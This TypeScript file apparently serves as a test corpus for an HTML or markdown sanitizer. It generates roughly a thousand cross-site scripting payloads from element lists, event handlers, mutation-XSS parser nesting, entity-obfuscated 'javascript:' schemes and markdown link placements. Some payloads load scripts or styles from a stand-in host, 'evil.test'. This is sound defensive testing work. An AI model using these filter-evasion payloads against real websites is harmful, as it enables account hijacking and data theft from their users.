// What the public lists of cross-site scripting vary: which element, which handler, how a URL is written, where it
// stands, and what hides it from a filter. After the OWASP filter evasion sheet, PortSwigger's and html5sec's lists,
// and the shapes of DOMPurify's own tests; every payload is put together here.

const elements = (
  'a abbr acronym address animate annotation-xml applet area article audio b base basefont bdi bdo bgsound big blink ' +
  'body br button canvas caption center cite code col colgroup command content data datalist dd del desc details dfn ' +
  'dialog dir div dl dt element em embed fencedframe fieldset figcaption figure font footer foreignObject form frame ' +
  'frameset h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing ' +
  'main map mark marquee math menu menuitem meta meter mglyph mi mo mtext multicol nav nextid nobr noembed noframes ' +
  'noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp ' +
  'script search section select selectedcontent set shadow slot small source spacer span strike strong style sub ' +
  'summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul use var video wbr xmp ' +
  'x-own xss'
).split(' ');

const events = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough ' +
  'change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend ' +
  'dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout ' +
  'formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata ' +
  'loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover ' +
  'mouseup mousewheel pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown ' +
  'pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ' +
  'ratechange repeat reset resize scroll scrollend scrollsnapchange search seeked seeking select selectionchange ' +
  'selectstart show slotchange stalled start submit suspend timeupdate toggle touchcancel touchend touchmove ' +
  'touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange ' +
  'waiting webkitanimationend webkitmouseforcechanged webkittransitionend wheel'
).split(' ');

const attributes = [
  'src=//evil.test/a',
  'srcset="//evil.test/b 2x"',
  'srcdoc="<script>parent.hit()</script>"',
  'href=javascript:hit()',
  'xlink:href="javascript:hit()"',
  'data=//evil.test/c',
  'poster=//evil.test/d',
  'background=//evil.test/e',
  'action=javascript:hit()',
  'formaction=javascript:hit()',
  'style="position:fixed;inset:0;background:url(//evil.test/f)"',
  'style=behavior:url(//evil.test/g)',
  'id=cookie name=cookie',
  'name=getElementById',
  'id=__proto__',
  'class="rv-composer rv-visually-hidden"',
  'http-equiv=refresh content="0;url=//evil.test"',
  'rel=stylesheet href=//evil.test/h.css',
  'rel=preload as=image href=//evil.test/i',
  'ping=//evil.test/j',
  'is=x-own',
  'slot=x part=x',
  'contenteditable autofocus tabindex=0',
  'popover popovertarget=x',
  'attributeName=href values=javascript:hit()',
  'to=javascript:hit() from=x begin=0s',
  'nonce=x integrity=x crossorigin',
  'title="javascript:hit()"',
  'lang="data:text/html,x" dir=rtl',
  'accesskey=x onclick=hit()',
  'usemap=#x longdesc=//evil.test/k dynsrc=//evil.test/l lowsrc=//evil.test/m',
  'code=//evil.test/n codebase=//evil.test classid=x archive=//evil.test/o',
];

/** How a tag is written so that a filter misses it. */
const disguises: readonly ((name: string, attribute: string) => string)[] = [
  (name, attribute) => `<${name} ${attribute}>x</${name}>`,
  (name, attribute) => `<${name}/${attribute}/>`,
  (name, attribute) => `<${name.toUpperCase()}\n${attribute}\n>`,
  (name, attribute) => `<${name}\t\f${attribute}`,
  (name, attribute) => `<<${name} ${attribute}//<`,
  (name, attribute) => `<${name} """ ${attribute}>`,
  (name, attribute) => `<x ${name}='<${name} ${attribute}>'>y`,
  (name, attribute) => `<b><${name} ${attribute}></b>x</${name}>`,
  (name, attribute) => `<${name}\0 ${attribute}>`,
  (name, attribute) => `</${name} ${attribute}>`,
];

/** Elements whose content browsers parse in another way than the rest. */
const shells: readonly ((inner: string) => string)[] = [
  (inner) => `<svg>${inner}</svg>`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<svg></p><style><a title="</style>${inner}">`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc><noscript>${inner}</noscript></desc></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<textarea>${inner}</textarea>`,
  (inner) => `<title>${inner}</title>`,
  (inner) => `<xmp>${inner}</xmp>`,
  (inner) => `<noembed>${inner}</noembed>`,
  (inner) => `<iframe>${inner}</iframe>`,
  (inner) => `<style><style/>${inner}</style>`,
  (inner) => `<listing>&lt;img onerror=hit() src=x&gt;${inner}</listing>`,
  (inner) => `<!--><p>${inner}-->`,
  (inner) => `<!-- --!>${inner}`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<?xml ${inner}?>`,
  (inner) => `<!DOCTYPE x [<!ENTITY y "${inner}">]>&y;`,
  (inner) => `<table><tr><td>${inner}<a></table>${inner}`,
  (inner) => `<frameset>${inner}</frameset>`,
  (inner) => `<details open><summary>${inner}</summary>x</details>`,
  (inner) => `<a href="x"><p>${inner}</a>`,
  (inner) => `<!--[if gte IE 4]>${inner}<![endif]-->`,
];

const fires = [
  '<img src=x onerror=hit()>',
  '<script>hit()</script>',
  '<script src=//evil.test/p></script>',
  '<iframe src=javascript:parent.hit()></iframe>',
  '<style>*{background:url(//evil.test/q)}</style>',
  '<a href="javascript:hit()" id=location>x</a>',
  '<img src=//evil.test/r>',
  '<input autofocus onfocus=hit()>',
  '<svg onload=hit()>',
  '<meta http-equiv=refresh content=0;url=//evil.test>',
];

const ofEntities = (text: string, write: (code: number) => string) =>
  Array.from(text, (char) => write(char.codePointAt(0) ?? 0)).join('');

const schemes = [
  'javascript',
  'vbscript',
  'data',
  'livescript',
  'mocha',
  'jar',
  'file',
  'view-source',
  'feed',
];
const bodies: Readonly<Record<string, string>> = {
  data: ':text/html,<script>parent.hit()</script>',
};

/** How a scheme is written so that a filter misses it and a browser does not. */
const spellings: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => scheme.replace(/^./, (char) => char.toUpperCase()),
  (scheme) => ofEntities(scheme, (code) => `&#${code};`),
  (scheme) => ofEntities(scheme, (code) => `&#${String(code).padStart(7, '0')}`),
  (scheme) => ofEntities(scheme, (code) => `&#x${code.toString(16)};`),
  (scheme) => ofEntities(scheme, (code) => `&#X${code.toString(16).padStart(5, '0')};`),
  (scheme) => ofEntities(scheme, (code) => `%${code.toString(16)}`),
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 3)}&#13;&#10;${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 2)}\t${scheme.slice(2)}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `&#14; ${scheme}`,
  (scheme) => `\u00a0${scheme}`,
  (scheme) => `\u2028${scheme}`,
  (scheme) => `\ufeff${scheme}`,
  (scheme) => `${scheme.slice(0, 4)}\0${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}\u00ad${scheme.slice(4)}`,
  (scheme) => `\\${scheme}`,
  (scheme) => `url(${scheme}`,
  (scheme) => `x:${scheme}`,
];

/** Where markdown and HTML take a URL. */
const targets: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}> "t")`,
  (url) => `![x](${url} '${url}')`,
  (url) => `<${url}>`,
  (url) => `[x]: ${url} "t"\n\n[x] ![x] [y][x]`,
  (url) => `<a href="${url}" title="${url}">x</a>`,
  (url) => `<img src='${url}' alt="${url}">`,
  (url) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
  (url) => `[![a](${url})](${url})`,
  (url) => `[^1]\n\n[^1]: [x](${url})`,
  (url) => `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
];

/** Where a payload stands in a message. */
const places: readonly ((line: string) => string)[] = [
  (line) => line,
  (line) => `words ${line} words`,
  (line) => `- a\n  - ${line.replaceAll('\n', ' ')}\n`,
  (line) => `> # ${line.replaceAll('\n', ' ')}`,
  (line) => `**${line}**`,
  (line) => `[${line}](y)`,
  (line) => `![${line}](y)`,
  (line) => `| ${line.replaceAll('\n', ' ')} |\n|---|\n| x |`,
  (line) => `<div>\n\n${line}\n\n</div>`,
  (line) => `x[^1]\n\n[^1]: ${line.replaceAll('\n', ' ')}`,
  (line) => `~~~html ${line.replaceAll('\n', ' ')}\n${line}\n~~~`,
  (line) => `<p>${line}`,
];

function pick<T>(list: readonly T[], at: number): T {
  return list[at % list.length] as T;
}

const handlers = events.flatMap((event, at) =>
  [0, 1, 2, 3].map((turn) =>
    pick(disguises, at + turn)(pick(elements, at * 5 + turn * 37), `on${event}=hit() src=x`),
  ),
);
const tags = elements.flatMap((name, at) =>
  attributes
    .filter((_, turn) => (turn + at) % 4 === 0)
    .map((attribute, turn) => pick(disguises, at + turn)(name, attribute)),
);
const nested = shells.flatMap((shell, at) => [
  ...fires.map((fire) => shell(fire)),
  ...fires.map((fire, turn) => pick(shells, at + turn + 1)(shell(fire))),
]);
const addresses = schemes.flatMap((scheme, at) =>
  spellings.flatMap((spell, turn) =>
    [0, 1, 2].map((nth) =>
      pick(targets, at + turn + nth * 5)(`${spell(scheme)}${bodies[scheme] ?? ':hit()'}`),
    ),
  ),
);

const placed = (payloads: readonly string[]) =>
  payloads.map((payload, at) => pick(places, at)(payload));

/** Some thousand payloads, by what they vary. */
export const hostileVectors: readonly (readonly [what: string, payloads: readonly string[]])[] = [
  ['handlers', placed(handlers)],
  ['elements and attributes', placed(tags)],
  ['elements in elements', placed(nested)],
  ['addresses', addresses],
];
